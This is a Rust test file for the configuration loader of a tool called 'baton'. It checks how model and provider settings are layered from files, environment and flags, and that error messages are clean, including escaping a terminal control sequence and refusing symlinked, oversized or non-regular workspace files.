    let own = "[models]\nfast = \"anthropic:a\"\npowerful = \"anthropic:b\"\n";
    let editor = serde_json::json!({ "models": { "balanced": "editor:c", "powerful": "editor:d" } });
    let ModelChoice { fast, balanced, powerful, .. } = laid_over(demo, own, editor.clone()).settings.models;
    assert_eq!((fast.as_deref(), balanced.as_deref()), (Some("demo:recorded"), Some("demo:recorded")));
    assert_eq!(powerful.as_deref(), Some("editor:d"), "what it does not name is as everywhere");
    // The user's own word for the demo is one like any other, and so is that of a workspace for a model.
    let swapped = laid_over("[models]\nfast = \"ollama:x\"\n", &demo.replace("balanced", "powerful"), editor);
    assert_eq!(swapped.settings.models.fast.as_deref(), Some("demo:recorded"));
    assert_eq!(swapped.settings.models.powerful.as_deref(), Some("editor:d"));
    // Who names one for this start means it.
    let sources = Sources { env: vec![("BATON_MODELS_FAST".to_owned(), "ollama:x".to_owned())], ..workspace(demo) };
    assert_eq!(load(&sources).unwrap().settings.models.fast.as_deref(), Some("ollama:x"));
    let faulty = Sources { user: users_file("[models]\nfast = \"nobody:x\"\n"), ..workspace(demo) };
    assert!(load(&faulty).unwrap_err().to_string().contains("nobody"));
}

#[test]
fn a_key_that_drives_terminals_is_escaped() {
    let message = load(&workspace("\"\\u001b[2J\" = 1")).unwrap_err().to_string();
    assert!(!message.contains('\u{1b}') && message.contains("\\u{1b}[2J"), "{message:?}");
}

#[test]
fn files_are_read_from_their_places() {
    let root = tempfile::tempdir().unwrap();
    let home = tempfile::tempdir().unwrap();
    let user_file = home.path().join("config.toml");
    let load = || load_with_user_file(root.path(), Some(&user_file), None, Vec::new(), Overrides::default());
    assert_eq!(load().unwrap().settings, Settings::default());

    fs::write(root.path().join("baton.toml"), "\u{feff}keep_runs = 2\r\nbudget_usd = 1\r\n").unwrap();
    fs::write(&user_file, "keep_runs = 3\n").unwrap();
    let loaded = load().unwrap();
    assert_eq!((loaded.settings.keep_runs, loaded.settings.budget_usd), (2, 1.0));
    assert_eq!(loaded.origin("budget_usd").place.to_string(), "baton.toml:2:14");

    fs::write(root.path().join("baton.toml"), b"keep_runs = 2\n# \xff").unwrap();
    fs::write(&user_file, "keep_runs = 0\n").unwrap();
    let ConfigErrors(errors) = load().unwrap_err();
    assert!(errors[0].to_string().starts_with("baton.toml:2:3: this is not UTF-8"), "{}", errors[0]);
    assert!(errors[1].to_string().contains("config.toml:1:13: keep_runs is 0"), "{}", errors[1]);
}

/// The models of a start with these flags, variables and workspace file, and what is warned of.
fn models_of(
    provider: Option<&str>,
    models: &[(PhaseTier, &str)],
    env: &[(&str, &str)],
    workspace: &str,
) -> (ModelChoice, Vec<String>) {
    let flags = Overrides {
        provider: provider.map(str::to_owned),
        models: models.iter().map(|(tier, model)| (*tier, (*model).to_owned())).collect(),
        ..Overrides::default()
    };
    let workspace = TomlFile { name: "baton.toml".to_owned(), text: workspace.to_owned() };
    let env = env.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect();
    let loaded = load(&Sources { workspace: Some(workspace), env, flags, ..Sources::default() }).unwrap();
    (loaded.settings.models, loaded.warnings)
}

#[test]
fn a_model_without_a_provider_is_one_of_the_provider_of_the_start() {
    let fast = |provider, models: &[(PhaseTier, &str)], env: &[(&str, &str)]| {
        models_of(provider, models, env, "").0.fast.unwrap()
    };
    let flag = |model| [(PhaseTier::Fast, model)];
    assert_eq!(fast(Some("openai"), &flag("m"), &[]), "openai:m");
    assert_eq!(fast(Some("ollama"), &flag("qwen3:8b"), &[]), "ollama:qwen3:8b");
    assert_eq!(fast(Some("openai"), &flag("ollama:qwen3:8b"), &[]), "ollama:qwen3:8b");
    assert_eq!(fast(None, &flag("m"), &[("BATON_PROVIDER", "openai")]), "openai:m");
    assert_eq!(fast(Some("ollama"), &flag("m"), &[("BATON_PROVIDER", "openai")]), "ollama:m");
    assert_eq!(fast(Some("openai"), &[], &[("BATON_MODELS_FAST", "m")]), "openai:m");
    assert_eq!(fast(None, &[], &[("BATON_MODELS_FAST", "m"), ("BATON_PROVIDER", "openai")]), "openai:m");
    assert_eq!(models_of(Some("openai"), &flag("none"), &[], "").0.fast, None);
    let flags = Overrides { models: vec![(PhaseTier::Fast, "m".to_owned())], ..Overrides::default() };
    let refused = load(&Sources { flags, ..Sources::default() }).unwrap_err().to_string();
    assert!(refused.contains("names no provider") && refused.ends_with("or add --provider"), "{refused}");
}

#[test]
fn a_model_of_another_provider_stays_under_provider_and_that_is_said() {
    let file = "[models]\nfast = \"ollama:a\"\nbalanced = \"openai:b\"\npowerful = \"anthropic:c\"\n";
    let (models, warnings) = models_of(Some("openai"), &[(PhaseTier::Powerful, "d")], &[], file);
    let names = [models.fast, models.balanced, models.powerful].map(Option::unwrap);
    assert_eq!(names, ["ollama:a", "openai:b", "openai:d"]);
    expect![[r#"
        [
            "--provider openai serves only what no setting names, and models.fast is ollama:a (baton.toml:2:8). For a model of openai there, add --model TIER=NAME",
        ]
    "#]]
    .assert_debug_eq(&warnings);
    // What the same command line names is meant.
    assert!(models_of(Some("openai"), &[(PhaseTier::Fast, "ollama:a")], &[], "").1.is_empty());
    // So is what stands in settings beside a variable.
    assert!(models_of(None, &[], &[("BATON_PROVIDER", "openai")], file).1.is_empty());
}

#[test]
fn a_workspace_file_that_is_no_file_of_the_workspace_is_refused() {
    let root = tempfile::tempdir().unwrap();
    let path = root.path().join("baton.toml");
    let load = || load_with_user_file(root.path(), None, None, Vec::new(), Overrides::default());
    fs::create_dir(&path).unwrap();
    assert!(load().unwrap_err().to_string().contains("not a regular file"));
    fs::remove_dir(&path).unwrap();
    fs::write(&path, vec![b'#'; (1 << 20) + 1]).unwrap();
    assert!(load().unwrap_err().to_string().contains("larger than 1 MiB"));
    #[cfg(unix)]
    {
        let outside = tempfile::NamedTempFile::new().unwrap();
        fs::remove_file(&path).unwrap();
        std::os::unix::fs::symlink(outside.path(), &path).unwrap();
        assert!(load().is_err(), "a link out of the workspace was followed");
        fs::remove_file(&path).unwrap();
        fs::write(root.path().join("other.toml"), "keep_runs = 3\n").unwrap();
        std::os::unix::fs::symlink("other.toml", &path).unwrap();
        assert!(load().unwrap_err().to_string().contains("it is a link"), "{}", load().unwrap_err());
        fs::remove_file(&path).unwrap();
        rustix::fs::mknodat(rustix::fs::CWD, &path, rustix::fs::FileType::Fifo, rustix::fs::Mode::RUSR, 0).unwrap();
        assert!(load().unwrap_err().to_string().contains("not a regular file"));
    }
}
